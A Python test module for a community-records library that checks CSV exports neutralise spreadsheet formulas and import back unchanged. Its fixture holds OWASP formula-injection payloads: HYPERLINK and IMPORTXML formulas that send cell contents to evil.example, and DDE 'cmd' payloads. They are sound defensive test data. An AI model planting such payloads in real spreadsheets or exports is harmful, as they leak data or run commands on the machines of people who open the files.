"""CSV exports neutralise formulas as OWASP recommends, and import again to the same values
(issue 14, item 17).

Text a spreadsheet would run (``=``, ``+``, ``-``, ``@``, tab, carriage
return first) gets a leading ``'``, and so does text beginning with ``'``;
the importer drops one leading ``'`` of a CSV cell. Numbers are not text.
End to end on SQLite and PostgreSQL, where the server writes the CSV itself
(``test_export_paths.py`` compares its bytes with Python's).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import String, select, type_coerce, update

from commons_core import Actor, Household, Resident
from commons_core.demo import DemoContext
from commons_core.io import ImportOptions, export_table, import_table
from commons_core.io.formulas import (
    MARK,
    TRIGGERS,
    may_hold_formulas,
    neutralise,
    neutralised_rows,
    restore,
)
from commons_core.io.layout import sheet
from commons_core.services import Commons
from commons_core.storage.tables import household, resident

from .sheets import write_csv

FORMULAS = {
    "registered_address": [
        '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
        "+86-10-1234",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "'以撇号开头",
        "''两个撇号",
        "\t=1+1",
        "\r=1+1",
    ],
    "address": ['=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")', "-1+1", "'x"],
}
"""What a hostile insider stored (raw SQL, past the rules): OWASP's payloads."""


@given(st.text())
def test_any_text_restores_to_itself(text: str) -> None:
    marked = neutralise(text)
    assert restore(marked) == text
    assert marked[:1] not in TRIGGERS - {MARK}, "no cell begins like a formula"
    assert (marked != text) == (text[:1] in TRIGGERS)


CELLS = st.one_of(st.text(st.characters(exclude_characters="\x00")), st.integers(), st.none())


@given(st.lists(st.lists(CELLS, min_size=3, max_size=3)))
def test_only_text_columns_are_marked_and_csv_keeps_them(rows: list[list[Any]]) -> None:
    raw = io.StringIO()
    csv.writer(raw).writerows(rows)
    if any(isinstance(v, str) and v[:1] in TRIGGERS for row in rows for v in row):
        assert may_hold_formulas(raw.getvalue()), "the quick look never misses a cell"
    done = neutralised_rows(rows, [0, 2])
    for row, out in zip(rows, done, strict=True):
        assert out[1] == row[1], "a column of numbers is never marked"
        for index in (0, 2):
            value = row[index]
            assert out[index] == (neutralise(value) if isinstance(value, str) else value)
    text = io.StringIO()
    csv.writer(text).writerows(done)
    read = list(csv.reader(io.StringIO(text.getvalue(), newline="")))
    for row, back in zip(rows, read, strict=True):
        for index in (0, 2):
            if isinstance(row[index], str):
                assert restore(back[index]) == row[index]


def test_a_chunk_without_such_cells_is_not_written_twice() -> None:
    plain = io.StringIO()
    csv.writer(plain).writerows([["张三", "文化路 1 号", 5], ["李四", "010-62345678", 6]])
    assert not may_hold_formulas(plain.getvalue())
    assert may_hold_formulas('a,"=1"\r\n') and may_hold_formulas("=1,a\r\n")
    assert may_hold_formulas("a\r\n-5,b\r\n"), "a negative number may: the slow path decides"
    assert neutralised_rows([(-5, "-5")], [1]) == [(-5, "'-5")]


@pytest.fixture
def hostile_community(
    commons: Commons, admin: Actor, demo_community: Callable[..., DemoContext]
) -> str:
    """A generated community whose free text holds formulas, stored past the rules."""
    demo = demo_community(households=20, residents=50)
    name = next(iter(demo.communities.values())).name
    with commons.engine.begin() as connection:
        people = list(
            connection.execute(
                select(resident.c.id).where(resident.c.status == "active").order_by(resident.c.id)
            ).scalars()
        )
        homes = list(connection.execute(select(household.c.id).order_by(household.c.id)).scalars())
        for table, keys in ((resident, people), (household, homes)):
            column = "registered_address" if table is resident else "address"
            for key, text in zip(keys, FORMULAS[column], strict=False):
                value = type_coerce(text, String)
                connection.execute(update(table).where(table.c.id == key).values({column: value}))
    return name


def _stored(commons: Commons, admin: Actor) -> tuple[set[str], set[str]]:
    with commons.unit_of_work(admin, readonly=True) as uow:
        people = {r.registered_address or "" for r in uow.repo(Resident).find()}
        homes = {h.address or "" for h in uow.repo(Household).find()}
    return people, homes


@pytest.mark.parametrize("kind", ["residents", "households"])
def test_an_export_neutralises_formulas_and_imports_again_unchanged(
    commons: Commons, admin: Actor, hostile_community: str, tmp_path: Path, kind: str
) -> None:
    before = _stored(commons, admin)
    path = tmp_path / f"{kind}.csv"
    export_table(commons, admin, kind, hostile_community, output=path, reveal=True)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    column = "registered_address" if kind == "residents" else "address"
    for text in FORMULAS[column]:
        assert MARK + text in cells, text
    assert not [c for c in cells if c[:1] in TRIGGERS - {MARK}], "no cell begins like a formula"
    summary = import_table(commons, admin, kind, path, hostile_community, ImportOptions())
    assert summary.rejected == 0, summary.first_problems
    # Every import strips a cell's white space, as the SDK's input does: text stored past it
    # with a leading tab or carriage return comes back without; all else exactly.
    spaced = [t for t in FORMULAS[column] if t != t.strip()]
    assert summary.updated == (len(spaced) if kind == "residents" else 0)
    assert summary.unchanged == summary.read - summary.updated > 0
    people, homes = before
    if kind == "residents":
        people = {t.strip() for t in people}
    assert _stored(commons, admin) == (people, homes)


def test_an_error_file_neutralises_and_imports_again_to_the_values_read(
    commons: Commons, admin: Actor, hostile_community: str, tmp_path: Path
) -> None:
    headers = [c.header for c in sheet("households").columns]
    source = write_csv(
        tmp_path / "in.csv",
        headers,
        [["0001", "bogus", "1", "'=1+1", "", "", ""], ["0002", "bogus", "1", "=2+2", "", "", ""]],
    )
    errors = tmp_path / "errors.csv"
    options = ImportOptions(on_error="skip", errors_to=errors)
    summary = import_table(commons, admin, "households", source, hostile_community, options)
    assert summary.rejected == 2
    with errors.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    addresses = [row[3] for row in rows[1:]]
    assert addresses == ["'=1+1", "'=2+2"], "both read as =…, both neutralised"
    assert not [c for row in rows for c in row if c[:1] in TRIGGERS - {MARK}]


def test_a_plain_export_has_no_marks(
    commons: Commons, admin: Actor, demo_community: Callable[..., DemoContext], tmp_path: Path
) -> None:
    demo = demo_community(households=10, residents=30)
    name = next(iter(demo.communities.values())).name
    path = tmp_path / "plain.csv"
    export_table(commons, admin, "residents", name, output=path, reveal=True)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        assert not [c for row in csv.reader(handle) for c in row if c.startswith(MARK)]


SAMPLES = [None, "", "'", "=", "x=1", "张三", "😀=", "\t", "\r\n=", "-5", "@", "+", " =1", "''"]


@pytest.mark.parametrize("utf8", [True, False])
def test_the_servers_neutralisation_is_pythons(commons: Commons, utf8: bool) -> None:
    from sqlalchemy import Text, literal

    from commons_core.io.formulas import sql_neutralised

    if commons.engine.dialect.name != "postgresql":
        pytest.skip("the server writes CSV on PostgreSQL only")
    texts = [*SAMPLES, *(t + "尾" for t in TRIGGERS)]
    with commons.engine.connect() as connection:
        for text in texts:
            made = connection.execute(
                select(sql_neutralised(literal(text, Text), utf8=utf8))
            ).scalar_one()
            assert made == (None if text is None else neutralise(text)), repr(text)
